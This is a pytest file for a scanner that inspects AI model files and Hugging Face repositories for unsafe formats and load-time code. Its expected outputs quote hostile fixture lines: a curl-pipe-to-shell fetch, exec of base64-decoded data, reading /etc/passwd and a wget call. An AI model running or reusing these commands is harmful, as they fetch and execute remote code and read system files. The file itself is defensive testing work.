from __future__ import annotations

from pathlib import Path

import pytest

from aibom.checks.issue_rules import ISSUE_RULES, rule_for
from aibom.checks.model_formats import RULE_IDS, artifact_issue_findings
from aibom.config import Config
from aibom.model import Artifact, ArtifactIssue, Finding, Inventory, Location
from aibom.rules import all_rules, get_rule
from aibom.scan import scan

MODELS = Path(__file__).resolve().parents[2] / "fixtures" / "models"
COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    ("kind", "rule_id"),
    [
        ("safetensors:malformed", "AIB220"),
        ("gguf:chat-template", "AIB225"),
        ("hdf5:external-link", "AIB237"),
        ("remote-code:command", "AIB245"),
        ("remote-code:network", "AIB245"),
        ("remote-code-later:command", "AIB246"),
        ("pickle:dangerous-global", None),  # owned by another check
        ("remote-code", None),
    ],
)
def test_issue_kinds_map_to_one_rule(kind: str, rule_id: str | None) -> None:
    assert rule_for(ArtifactIssue(kind, "d", Location("x"))) == rule_id


def test_every_mapped_rule_is_a_formats_rule() -> None:
    rules = all_rules()
    assert {r for r in rules if rules[r].group == "formats"} == RULE_IDS
    assert {ISSUE_RULES[k] for k in ISSUE_RULES} >= RULE_IDS


def test_finding_arguments_and_rendering() -> None:
    artifact = Artifact(path="m.h5", format="hdf5", size=1)
    artifact.issues.append(
        ArtifactIssue("keras:lambda", "Lambda layer f", Location("m.h5"), (("layer", "f"),))
    )
    inv = Inventory(roots=(".",), artifacts=[artifact])
    (finding,) = artifact_issue_findings(inv, Config())
    assert finding == Finding.make(
        "AIB235",
        Location("m.h5"),
        detail="Lambda layer f",
        artifact="m.h5",
        layer="f",
        note=" (safe_mode does not protect .h5 files)",
    )
    assert get_rule("AIB235").render(finding) == (
        "Lambda layer f holds Python code that runs when the model is loaded "
        "(safe_mode does not protect .h5 files)"
    )


# this module's rules and the scan-error rules; other checks (code references...) may also
# look at these fixtures, and their findings are theirs to test
OURS = RULE_IDS | {"AIB901", "AIB902"}


def findings(root: Path) -> list[tuple[str, str]]:
    result = scan(Config(roots=(root,), workers=1))
    return [(f.rule_id, str(f.location)) for f in result.findings if f.rule_id in OURS]


def test_scan_of_the_format_fixtures() -> None:
    assert findings(MODELS / "formats") == [
        ("AIB220", "bad_dtype.safetensors"),
        ("AIB902", "bad_dtype.safetensors"),
        ("AIB220", "bad_json.safetensors"),
        ("AIB902", "bad_json.safetensors"),
        ("AIB220", "bad_length.safetensors"),
        ("AIB902", "bad_length.safetensors"),
        ("AIB220", "bad_overlap.safetensors"),
        ("AIB902", "bad_overlap.safetensors"),
        ("AIB232", "custom_domain.onnx"),
        ("AIB236", "evil_module.keras (config.json)"),
        ("AIB236", "evil_module.keras (config.json)"),
        ("AIB225", "evil_template.gguf"),
        ("AIB230", "external_escape.onnx"),
        ("AIB235", "lambda.h5"),
        ("AIB235", "lambda.keras (config.json)"),
        ("AIB235", "nested_lambda.keras (config.json)"),
        ("AIB226", "truncated.gguf"),
        ("AIB902", "truncated.gguf"),
        ("AIB233", "truncated.onnx"),
        ("AIB902", "truncated.onnx"),
    ]


def test_benign_real_models_have_no_findings() -> None:
    result = scan(Config(roots=(MODELS / "formats",), workers=1))
    flagged = {f.location.path for f in result.findings}
    benign = {
        "tiny.safetensors",
        "tiny.gguf",
        "tiny.onnx",
        "external_ok.onnx",
        "dense.keras",
        "dense.h5",
    }
    assert benign <= {a.path for a in result.inventory.artifacts}
    assert benign & flagged == set()


def test_scan_of_the_hugging_face_fixtures() -> None:
    result = scan(Config(roots=(MODELS / "hf",), workers=1))
    rendered = [
        (f.rule_id, str(f.location), get_rule(f.rule_id).render(f))
        for f in result.findings
        if f.rule_id in OURS
    ]
    assert rendered == [
        (
            "AIB240",
            "custom-code/config.json",
            "config.json maps AutoConfig -> modeling_ok.TinyConfig, AutoModel -> "
            "modeling_ok.TinyModel, AutoModelForCausalLM -> modeling_evil.EvilModel to code "
            "in the repository: loading needs trust_remote_code=True",
        ),
        (
            "AIB245",
            "custom-code/modeling_evil.py:9",
            "runs a command when the model is loaded (module level): "
            'os.system("curl -s https://example.invalid/payload | sh")',
        ),
        (
            "AIB245",
            "custom-code/modeling_evil.py:18",
            "evaluates a string as code when the model is loaded (EvilModel._setup()): "
            'exec(base64.b64decode("cHJpbnQoJ3B3bmVkJyk=")) (of decoded data)',
        ),
        (
            "AIB245",
            "custom-code/modeling_evil.py:19",
            "touches a file outside the model folder when the model is loaded "
            '(EvilModel._setup()): open("/etc/passwd")',
        ),
        (
            "AIB246",
            "custom-code/modeling_evil.py:22",
            'runs a command in EvilModel.generate_extra(): sp.run(["wget", '
            '"https://example.invalid/more"])',
        ),
        (
            "AIB240",
            "custom-code/tokenizer_config.json",
            "tokenizer_config.json maps AutoTokenizer -> other-org/tokenizers--tokenization_x.Tok "
            "(code from other-org/tokenizers) to code in the repository: loading needs "
            "trust_remote_code=True",
        ),
        (
            "AIB242",
            "sharded/extra.safetensors",
            "extra.safetensors is a weight file that model.safetensors.index.json does not list",
        ),
        (
            "AIB241",
            "sharded/model.safetensors.index.json",
            "model.safetensors.index.json lists shard model-00002-of-00002.safetensors, which "
            "is not in the folder",
        ),
    ]
    snapshot = f"models--acme--tiny-bert/snapshots/{COMMIT}"
    # nothing but informational lineage notes (its card names data sets not in the tree and
    # an unpinned base model)
    assert {f.rule_id for f in result.findings if f.location.path.startswith(snapshot)} == {
        "AIB803"
    }
    assert result.complete
